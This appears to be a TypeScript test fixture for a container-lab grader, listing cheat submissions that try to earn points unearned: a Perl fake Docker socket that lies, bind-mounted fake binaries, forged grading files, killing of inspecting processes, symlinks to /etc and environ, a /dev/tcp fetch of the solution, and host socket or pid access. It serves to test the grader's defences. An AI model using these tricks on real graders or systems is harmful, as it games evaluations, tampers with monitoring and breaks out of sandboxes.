/** What a learner may hand in to get points that the work does not earn. */
import type { StateFiles } from '../../../src/runner/library/lab-state.ts';
import type { ReplayTiming } from '../../../src/runner/replay/replay.ts';

interface Cheat {
  readonly name: string;
  /** Files beside, or in the place of, those that the lab starts with. */
  readonly files: Readonly<Record<string, string>>;
  /** It begins with the solution, not with the start. */
  readonly from?: 'solution';
  /** How the grade is called; `graded` unless said. */
  readonly state?: string;
  readonly timing?: Partial<ReplayTiming>;
}

/** A container as the work should have made it, by hand, under the labels of the one that should be judged. */
export const forged = `docker rm -f $(docker ps -aq --filter label=com.docker.compose.project="$COMPOSE_PROJECT_NAME")
docker run -d --user 10001 --read-only --label com.docker.compose.project="$COMPOSE_PROJECT_NAME" \\
  --label com.docker.compose.service=web --label com.docker.compose.container-number=1 \\
  --label com.docker.compose.oneoff=False alpine:3.22 sleep 1000`;

/** An engine that tells lies: it answers every question with the container that should be there. */
const liar = `kill -9 $(pidof dockerd containerd) 2>/dev/null
rm -f /var/run/docker.sock /run/docker.sock
cat > /tmp/liar.pl <<'PERL'
use IO::Socket::UNIX;
unlink '/run/docker.sock';
my $server = IO::Socket::UNIX->new(Local => '/run/docker.sock', Listen => 64) or die;
my $box = '{"Id":"' . 'a' x 64 . '","Names":["/web"],"Image":"alpine:3.22","State":"running","Labels":{"com.docker.compose.project":"' . ($ENV{COMPOSE_PROJECT_NAME} // '') . '","com.docker.compose.service":"web"}}';
while (my $client = $server->accept) { my $ask = <$client>; print $client "HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: " . (2 + length $box) . "\\r\\n\\r\\n[$box]"; close $client }
PERL
setsid perl /tmp/liar.pl > /dev/null 2>&1 &
sleep 1`;

const solved = (text: string) =>
  text.replace('command: ', 'user: "10001"\n    read_only: true\n    command: ');
const service = (more: string) =>
  `services:\n  web:\n    image: alpine:3.22\n    command: [sleep, infinity]\n${more}`;

/** `@hosts@:@port@` is where something listens on the machine, and would give the solution away. */
export const cheats: readonly Cheat[] = [
  {
    name: 'a docker in the place of the real one',
    files: {
      'run.sh': `printf '#!/bin/sh\\necho all is well\\nexit 0\\n' > /run/fake; chmod 755 /run/fake
for each in /usr/bin/docker /usr/bin/perl /usr/bin/tar /usr/bin/cat; do mount --bind /run/fake $each; done
exit 0`,
    },
  },
  { name: 'an engine of the seat that tells lies', files: { 'run.sh': liar } },
  {
    name: 'a process that lies about its name and user beside the real one',
    files: {
      'run.sh': `${forged}
setsid setpriv --reuid 10001 --clear-groups perl -e '$0 = "sleep"; open F, ">/proc/self/comm"; print F "sleep"; close F; sleep 1000' &
sleep 1`,
    },
  },
  {
    name: 'whatever looks is killed again and again',
    files: {
      'run.sh': `setsid sh -c 'while :; do pkill -9 -f "The far end" ; pkill -9 perl; sleep 0.05; done' &\nkill -9 -1`,
    },
  },
  {
    name: 'good only while it is looked at',
    files: {
      'run.sh': `cat > /tmp/watch <<'SH'
while :; do
  if pgrep -f 'The far end' > /dev/null; then ${forged.replaceAll('\n', '\n  ')}
  fi
  sleep 0.1
done
SH
setsid bash /tmp/watch > /dev/null 2>&1 &
exit 0`,
    },
  },
  {
    name: 'good at the first look and gone at the second',
    from: 'solution',
    files: { 'compose.yaml': solved(service('')).replace('[sleep, infinity]', '[sleep, "20"]') },
    state: 'unstable',
    timing: { leastMs: 30_000 },
  },
  {
    name: 'results and evidence that were written into the workspace',
    files: {
      'results.json': '[{"id":"not-root","status":"pass","earned":5,"of":5}]',
      'observation.json': '{"version":1,"containers":[]}',
      '.drydock/grading.json': '{"outcome":"graded","points":10}',
      'run.sh': 'echo \'{"points":10}\' > grade.json; echo PASS; printf "##drydock pass\\n"; exit 0',
    },
  },
  {
    name: 'links in the place of files and of the workspace',
    files: {
      'run.sh': `rm -f compose.yaml; ln -s /proc/self/environ compose.yaml; ln -s / root; ln -s /var/run/docker.sock sock
here=$PWD; cd /; mv "$here" "$here.away" && ln -s /etc "$here"; exit 0`,
    },
  },
  {
    name: 'a script that never ends',
    files: { 'run.sh': `trap '' TERM INT HUP; while :; do sleep 1; done` },
  },
  {
    name: 'a script that goes on in the background once it has ended',
    files: {
      'run.sh': `(sleep 4; ${forged}) > /dev/null 2>&1 &\nsetsid sh -c 'sleep 6; ${forged.replaceAll("'", '')}' > /dev/null 2>&1 &\nexit 0`,
    },
  },
  {
    name: 'what others handed in, looked for everywhere',
    files: {
      'run.sh': `for place in / /var/lib/docker /workspaces /proc/1/root /tmp; do
  found=$(timeout 5 grep -rls --include='*.yaml' --include='*.db' 'read_only: true' "$place" 2> /dev/null | head -n 1)
  if [ -n "$found" ]; then cp "$found" compose.yaml; break; fi
done
exit 0`,
    },
  },
  {
    name: 'the solution, fetched from outside',
    files: {
      'run.sh': `ip link set eth0 up; iptables -F; nsenter --target 1 --net ip link set eth0 up 2> /dev/null
for host in @hosts@; do
  if exec 3<> "/dev/tcp/$host/@port@"; then printf 'GET /solved HTTP/1.0\\r\\n\\r\\n' >&3; sed '1,/^\\r$/d' <&3 > compose.yaml; fi
done 2> /dev/null
exit 0`,
    },
  },
  {
    name: 'labels of Compose and of ours on another service',
    files: {
      'compose.yaml': `${service('')}  decoy:
    image: alpine:3.22
    user: "10001"
    read_only: true
    command: [sleep, infinity]
    labels:
      com.docker.compose.service: web
      dev.drydock.role: probe
`,
    },
  },
  {
    name: 'an image under the name of the one that is expected',
    files: {
      Dockerfile: 'FROM alpine:3.22\nUSER 10001\n',
      'run.sh':
        'docker build -t alpine:3.22 . && docker tag alpine:3.22 drydock/seat:1; docker compose up -d --force-recreate; exit 0',
    },
  },
  {
    name: 'output and files without end',
    files: {
      'run.sh': `head -c 60000000 /dev/zero > large; timeout 3 yes; timeout 3 yes >&2; for i in $(seq 1 3000); do : > "file-$i"; done; exit 0`,
    },
  },
  {
    name: 'a container among the processes of the seat',
    files: { 'compose.yaml': service('    pid: host\n    cap_add: [SYS_PTRACE, KILL]\n') },
  },
  {
    name: 'the socket of the seat’s engine',
    files: { 'compose.yaml': service('    volumes: ["/var/run/docker.sock:/sock"]\n') },
  },
];

/** What is handed in. */
export function filesOf(
  { files }: Cheat,
  base: StateFiles,
  server: { readonly hosts: string; readonly port: number },
): StateFiles {
  const fill = (text: string) => text.replace('@hosts@', server.hosts).replace('@port@', String(server.port));
  const own = Object.entries(files).map(
    ([path, text]) => [path, { content: Buffer.from(fill(text)), executable: path === 'run.sh' }] as const,
  );
  return new Map([...base, ...own]);
}
